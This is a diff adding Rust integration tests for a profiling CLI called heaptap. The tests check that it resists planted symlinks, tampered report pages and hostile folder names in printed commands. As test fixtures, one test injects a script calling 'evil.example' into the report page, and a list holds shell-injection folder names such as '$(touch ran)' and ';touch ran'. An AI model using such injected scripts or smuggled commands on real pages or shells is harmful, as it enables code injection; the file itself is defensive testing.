@@ -1,0 +1,475 @@
+//! A folder that came from somebody else: what its links lead to, what its page may do, and what
+//! its name does to commands that are printed for copying.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+use serde_json::Value;
+
+use crate::lab::{APP, Lab, files};
+
+fn fixture(name: &str) -> PathBuf {
+    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures");
+    fixtures.join(name)
+}
+
+/// A folder to work in, in which no browser can be started.
+struct Desk(tempfile::TempDir);
+
+impl Desk {
+    fn new() -> Desk {
+        let desk = Desk(tempfile::tempdir().unwrap());
+        std::fs::create_dir(desk.path("no-programs")).unwrap();
+        desk
+    }
+
+    /// One with a recording in `rec`, and symbols for it in `syms`.
+    fn with_recording() -> Desk {
+        let desk = Desk::new();
+        let trace = fixture("symbolize/multi.pftrace");
+        std::fs::create_dir(desk.path("syms")).unwrap();
+        std::fs::copy(
+            fixture("symbolize/alloc_test"),
+            desk.path("syms/alloc_test"),
+        )
+        .unwrap();
+        let trace = trace.to_str().unwrap();
+        desk.expect(0, &["convert", trace, "--no-symbolize", "-o", "rec"]);
+        std::fs::copy(trace, desk.path("rec/raw-trace")).unwrap();
+        desk
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.0.path().join(name)
+    }
+
+    fn read(&self, name: &str) -> Vec<u8> {
+        std::fs::read(self.path(name)).unwrap_or_else(|e| panic!("{name}: {e}"))
+    }
+
+    fn command(&self, args: &[&str]) -> Command {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_heaptap"));
+        command
+            .args(args)
+            .current_dir(self.0.path())
+            .env("HEAPTAP_CACHE_DIR", self.path("cache"))
+            .env("HEAPTAP_STATE_DIR", self.path("state"))
+            .env("PATH", self.path("no-programs"))
+            .env_remove("BROWSER")
+            .env_remove("PERFETTO_BINARY_PATH")
+            .stdin(Stdio::null());
+        command
+    }
+
+    fn run(&self, args: &[&str]) -> Output {
+        self.command(args).output().unwrap()
+    }
+
+    fn expect(&self, code: i32, args: &[&str]) -> Output {
+        let output = self.run(args);
+        let told = text(&output.stderr);
+        assert_eq!(output.status.code(), Some(code), "{args:?}: {told}");
+        output
+    }
+
+    /// The failure of a command, as its document has it.
+    fn failure(&self, code: i32, args: &[&str]) -> Value {
+        let output = self.expect(code, &[&["--json"], args].concat());
+        let document: Value = serde_json::from_slice(&output.stdout).expect("one document");
+        document["error"].clone()
+    }
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+/// Looks names up for `rec`, in `syms` alone.
+#[cfg(unix)]
+fn names(command: &str) -> [&str; 5] {
+    [command, "rec", "--no-discover", "--symbols", "syms"]
+}
+
+#[cfg(unix)]
+use std::os::unix::fs::symlink;
+
+#[cfg(unix)]
+#[test]
+fn names_for_a_folder_replace_its_links_and_keep_what_they_lead_to() {
+    for command in ["symbolize", "deobfuscate"] {
+        let desk = Desk::with_recording();
+        let profiles = files(&desk.path("rec")).into_iter();
+        let profiles: Vec<String> = profiles.filter(|name| name.ends_with(".pb.gz")).collect();
+        assert!(!profiles.is_empty());
+        std::fs::write(desk.path("precious"), "precious").unwrap();
+        let written = profiles.iter().map(String::as_str);
+        let written: Vec<&str> = written.chain(["symbols", "symbolized-trace"]).collect();
+        for name in &written {
+            let path = desk.path("rec").join(name);
+            let _ = std::fs::remove_file(&path);
+            symlink("../precious", &path).unwrap();
+        }
+        desk.expect(0, &names(command));
+        assert_eq!(desk.read("precious"), b"precious", "{command}");
+        for name in written {
+            let path = desk.path("rec").join(name);
+            assert!(path.is_file() && !path.is_symlink(), "{command}: {name}");
+        }
+        let parts = [desk.read("rec/raw-trace"), desk.read("rec/symbols")].concat();
+        assert!(desk.read("rec/symbolized-trace") == parts, "{command}");
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_folder_without_a_manifest_is_written_to_in_the_same_way() {
+    let desk = Desk::with_recording();
+    std::fs::remove_file(desk.path("rec/manifest.json")).unwrap();
+    std::fs::write(desk.path("precious"), "precious").unwrap();
+    for name in ["symbols", "symbolized-trace"] {
+        symlink("../precious", desk.path("rec").join(name)).unwrap();
+    }
+    desk.expect(0, &names("symbolize"));
+    assert_eq!(desk.read("precious"), b"precious");
+    let parts = [desk.read("rec/raw-trace"), desk.read("rec/symbols")].concat();
+    assert!(desk.read("rec/symbolized-trace") == parts);
+}
+
+#[cfg(unix)]
+#[test]
+fn nothing_comes_into_a_folder_through_its_links() {
+    let desk = Desk::with_recording();
+    std::fs::write(desk.path("secret"), "a private key").unwrap();
+    symlink("../secret", desk.path("rec/deobfuscation-packets")).unwrap();
+    desk.expect(0, &names("symbolize"));
+    let parts = [desk.read("rec/raw-trace"), desk.read("rec/symbols")].concat();
+    assert!(
+        desk.read("rec/symbolized-trace") == parts,
+        "only its own files"
+    );
+    // Another trace of this computer would go into the symbolized one, and its profiles.
+    for name in ["raw-trace", "manifest.json"] {
+        let path = desk.path("rec").join(name);
+        let moved = desk.path(name);
+        std::fs::rename(&path, &moved).unwrap();
+        symlink(&moved, &path).unwrap();
+        let before: Vec<String> = files(&desk.path("rec"));
+        let whole = desk.read("rec/symbolized-trace");
+        let failure = desk.failure(8, &names("symbolize"));
+        assert_eq!(failure["kind"], "linked-file", "{failure}");
+        assert!(
+            failure["message"].as_str().unwrap().contains(name),
+            "{failure}"
+        );
+        assert_eq!(files(&desk.path("rec")), before);
+        assert!(desk.read("rec/symbolized-trace") == whole);
+        std::fs::remove_file(&path).unwrap();
+        std::fs::rename(&moved, &path).unwrap();
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_page_replaces_a_link_of_a_folder_and_follows_one_that_was_typed() {
+    let desk = Desk::with_recording();
+    desk.expect(0, &["report", "rec", "-o", "other.html"]);
+    let other = desk.read("other.html");
+    symlink("../other.html", desk.path("rec/report.html")).unwrap();
+    desk.expect(0, &["report", "rec"]);
+    assert!(desk.read("other.html") == other, "it was not followed");
+    assert!(!desk.path("rec/report.html").is_symlink());
+    std::fs::remove_file(desk.path("rec/report.html")).unwrap();
+    symlink("../new.html", desk.path("rec/report.html")).unwrap();
+    desk.expect(0, &["report", "rec"]);
+    assert!(
+        !desk.path("new.html").exists(),
+        "nor where it leads nowhere"
+    );
+    std::fs::write(desk.path("mine.html"), "").unwrap();
+    symlink("mine.html", desk.path("typed.html")).unwrap();
+    desk.expect(0, &["report", "rec", "-o", "typed.html"]);
+    assert!(desk.path("typed.html").is_symlink());
+    assert!(
+        !desk.read("mine.html").is_empty(),
+        "who types a link means its file"
+    );
+}
+
+#[test]
+fn only_the_page_that_heaptap_wrote_into_a_folder_is_opened() {
+    let desk = Desk::with_recording();
+    let open = ["open", "rec", "--report", "--print-url"];
+    desk.expect(0, &["report", "rec"]);
+    let opened = desk.expect(0, &open);
+    assert!(text(&opened.stdout).ends_with("/rec/report.html\n"));
+    // Names that come later leave the page as it is.
+    desk.expect(
+        0,
+        &["symbolize", "rec", "--no-discover", "--symbols", "syms"],
+    );
+    desk.expect(0, &open);
+    let page = text(&desk.read("rec/report.html"));
+    let hostile = page.replace("</body>", "<script>fetch('//evil.example')</script></body>");
+    assert_ne!(page, hostile);
+    std::fs::write(desk.path("rec/report.html"), &hostile).unwrap();
+    let failure = desk.failure(8, &open);
+    assert_eq!(failure["kind"], "page-unknown", "{failure}");
+    let help = failure["help"].as_str().unwrap();
+    assert!(help.contains("`heaptap report rec --open`"), "{help}");
+    desk.expect(0, &["report", "rec"]);
+    desk.expect(0, &open);
+}
+
+#[test]
+fn a_page_in_a_folder_without_a_manifest_is_made_anew() {
+    let desk = Desk::with_recording();
+    desk.expect(0, &["report", "rec"]);
+    std::fs::remove_file(desk.path("rec/manifest.json")).unwrap();
+    let page = desk.path("rec/report.html");
+    let hostile = text(&desk.read("rec/report.html")) + "<script>fetch('//evil.example')</script>";
+    std::fs::write(&page, &hostile).unwrap();
+    desk.expect(0, &["open", "rec", "--report", "--print-url"]);
+    assert!(!text(&desk.read("rec/report.html")).contains("evil.example"));
+}
+
+#[test]
+fn a_recording_notes_its_page() {
+    let lab = Lab::new("android=14,build=userdebug,speed=10");
+    lab.expect(0, &["record", "-n", APP, "-d", "4s", "-o", "out"]);
+    let page = std::fs::read(lab.work().join("out/report.html")).unwrap();
+    let noted = lab.manifest("out")["page"].clone();
+    assert_eq!(noted["file"], "report.html");
+    use sha2::Digest as _;
+    let sum = sha2::Sha256::digest(&page);
+    let sum: String = sum.iter().map(|byte| format!("{byte:02x}")).collect();
+    assert_eq!(noted["sha256"], sum);
+}
+
+// Windows finds its own programs without PATH.
+#[cfg(unix)]
+#[test]
+fn a_page_that_no_browser_shows_is_named_and_a_failure() {
+    let desk = Desk::with_recording();
+    desk.expect(0, &["report", "rec"]);
+    let failure = desk.failure(11, &["open", "rec/report.html"]);
+    assert_eq!(failure["kind"], "no-browser", "{failure}");
+    let message = failure["message"].as_str().unwrap();
+    assert!(
+        message.contains("/rec/report.html") && message.contains("file:///"),
+        "{message}"
+    );
+    for args in [
+        &["open", "rec/report.html"][..],
+        &["open", "rec", "--report"],
+        &["report", "rec", "--open"],
+    ] {
+        let told = text(&desk.expect(11, args).stderr);
+        assert!(told.contains("opening file:///"), "{args:?}: {told}");
+        assert!(
+            told.contains("error: no browser could be started"),
+            "{args:?}: {told}"
+        );
+    }
+}
+
+/// A program for `BROWSER` that does what `script` says.
+#[cfg(unix)]
+fn browser(desk: &Desk, script: &str) -> PathBuf {
+    use std::os::unix::fs::PermissionsExt as _;
+    let path = desk.path("browser");
+    std::fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    path
+}
+
+#[cfg(unix)]
+#[test]
+fn a_browser_that_fails_is_told_and_one_that_does_not_is_given_the_page() {
+    let desk = Desk::with_recording();
+    desk.expect(0, &["report", "rec"]);
+    let open = |script: &str| {
+        let mut command = desk.command(&["open", "rec/report.html"]);
+        command.env("BROWSER", browser(&desk, script));
+        command.output().unwrap()
+    };
+    let failed = open("exit 3");
+    assert_eq!(failed.status.code(), Some(11));
+    let told = text(&failed.stderr);
+    assert!(told.contains("browser: exit status: 3"), "{told}");
+    let shown = open("echo \"$1\" > shown");
+    assert_eq!(shown.status.code(), Some(0), "{}", text(&shown.stderr));
+    assert!(text(&desk.read("shown")).ends_with("/rec/report.html\n"));
+}
+
+/// Fetches `url` as a browser does.
+#[cfg(unix)]
+fn get(url: &str) -> Vec<u8> {
+    use std::io::{Read as _, Write as _};
+    let (host, path) = url
+        .strip_prefix("http://")
+        .unwrap()
+        .split_once('/')
+        .unwrap();
+    let mut stream = std::net::TcpStream::connect(host).unwrap();
+    write!(stream, "GET /{path} HTTP/1.1\r\nHost: {host}\r\n\r\n").unwrap();
+    let mut answer = Vec::new();
+    stream.read_to_end(&mut answer).unwrap();
+    let end = answer
+        .windows(4)
+        .position(|four| four == b"\r\n\r\n")
+        .expect("a head");
+    answer.split_off(end + 4)
+}
+
+#[cfg(unix)]
+#[test]
+fn the_browser_is_started_with_a_private_page_and_without_the_secret() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let desk = Desk::new();
+    let trace = fixture("conversions/c_cont.pftrace");
+    // Opening a pipe waits for who opens the other end.
+    let pipe = desk.path("pipe");
+    let made = Command::new("mkfifo")
+        .arg(&pipe)
+        .status()
+        .expect("there is mkfifo");
+    assert!(made.success());
+    let mut command = desk.command(&["open", trace.to_str().unwrap(), "--page"]);
+    command.env("BROWSER", browser(&desk, "printf '%s\\n' \"$@\" > pipe"));
+    command.env("TMPDIR", desk.0.path());
+    command.stdout(Stdio::null()).stderr(Stdio::piped());
+    let child = command.spawn().unwrap();
+    let started_with = std::fs::read_to_string(&pipe).unwrap();
+    let page = PathBuf::from(started_with.trim_end());
+    assert!(page.is_absolute() && page.is_file(), "{started_with}");
+    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&page), 0o600);
+    assert_eq!(mode(page.parent().unwrap()), 0o700);
+    let redirect = std::fs::read_to_string(&page).unwrap();
+    let url = redirect
+        .split("url=")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .unwrap();
+    let handed = text(&get(url));
+    let file = handed
+        .split("\"file\":\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next());
+    let host = url.split('/').nth(2).unwrap();
+    assert!(get(&format!("http://{host}{}", file.unwrap())) == std::fs::read(&trace).unwrap());
+    let ended = child.wait_with_output().unwrap();
+    assert_eq!(ended.status.code(), Some(0), "{}", text(&ended.stderr));
+    assert!(
+        !page.exists() && !page.parent().unwrap().exists(),
+        "nothing is left"
+    );
+}
+
+#[test]
+fn a_virtual_phone_is_not_left_alone_with_a_recording() {
+    let desk = Desk::new();
+    for command in [
+        &["record", "-n", APP][..],
+        &["dump", "-n", APP],
+        &["dump", "-n", APP, "--hprof"],
+    ] {
+        let args = [command, &["--virtual", "--detach", "-o", "out"]].concat();
+        let failure = desk.failure(2, &args);
+        assert_eq!(failure["kind"], "option-conflict", "{command:?}: {failure}");
+        let message = failure["message"].as_str().unwrap();
+        assert!(message.contains("ends with this command"), "{message}");
+        assert!(!desk.path("out").exists(), "{command:?}");
+    }
+}
+
+/// What `sh` makes of a command line of heaptap.
+#[cfg(unix)]
+fn pasted(desk: &Desk, line: &str) -> Vec<String> {
+    let script = format!("heaptap() {{ printf '%s\\0' \"$@\"; }}\n{line}");
+    let ran = Command::new("sh")
+        .args(["-c", &script])
+        .current_dir(desk.0.path())
+        .output();
+    let ran = ran.expect("there is sh");
+    assert!(
+        ran.status.success() && ran.stderr.is_empty(),
+        "{line}: {ran:?}"
+    );
+    let all = text(&ran.stdout);
+    let all = all.strip_suffix('\0').unwrap_or(&all);
+    all.split('\0').map(str::to_owned).collect()
+}
+
+/// Names of folders that a shell takes apart, or runs.
+#[cfg(unix)]
+const HARD: [&str; 9] = [
+    "my recording",
+    "it's",
+    "a$(touch ran)$HOME",
+    "a;touch ran",
+    "a`touch ran`",
+    "say \"so\" \\n 100%",
+    "a\ntouch ran\x1b[31m",
+    "-n",
+    "*",
+];
+
+#[cfg(unix)]
+#[test]
+fn a_printed_command_works_when_it_is_pasted() {
+    let desk = Desk::new();
+    for name in HARD {
+        // Said before the folder is looked at.
+        let which = format!("{name}@last");
+        let failure = desk.failure(2, &["open", "--", &which]);
+        let line = failure["help"].as_str().unwrap();
+        let typed = match name.starts_with('-') {
+            true => format!("./{which}"),
+            false => which,
+        };
+        assert_eq!(pasted(&desk, line), ["report", &typed, "--open"], "{line}");
+    }
+    assert!(!desk.path("ran").exists());
+}
+
+#[cfg(unix)]
+#[test]
+fn what_is_suggested_next_works_when_it_is_pasted() {
+    let desk = Desk::with_recording();
+    for name in HARD {
+        if desk.path("rec").exists() {
+            std::fs::rename(desk.path("rec"), desk.path("now")).unwrap();
+        }
+        let folder = desk.path(name);
+        std::fs::rename(desk.path("now"), &folder).unwrap();
+        let typed = match name.starts_with('-') {
+            true => format!("./{name}"),
+            false => name.to_owned(),
+        };
+        let told = text(&desk.expect(0, &["top", "--", name]).stderr);
+        let next = told.lines().find_map(|line| line.strip_prefix("next: "));
+        let next = next.unwrap_or_else(|| panic!("{name:?}: {told}"));
+        let mut lines = next.split(" · ");
+        let line = lines.next().unwrap();
+        assert_eq!(pasted(&desk, line), ["top", &typed, "--tree"], "{line}");
+        // The summary of a recording suggests several.
+        let args = ["symbolize", "--no-discover", "--", name];
+        let told = text(&desk.expect(0, &args).stderr);
+        let commands: Vec<&str> = told
+            .lines()
+            .filter_map(|line| Some(line.trim_start()).filter(|line| line.starts_with("heaptap ")))
+            .collect();
+        assert!(!commands.is_empty(), "{told}");
+        for line in commands {
+            let words = pasted(&desk, line);
+            let (input, _) = words[1].rsplit_once('@').unwrap_or((&words[1], ""));
+            assert!(
+                input == typed || input == format!("{typed}/report.html"),
+                "{line}: {words:?}"
+            );
+        }
+        std::fs::rename(&folder, desk.path("now")).unwrap();
+    }
+    assert!(!desk.path("ran").exists());
+}
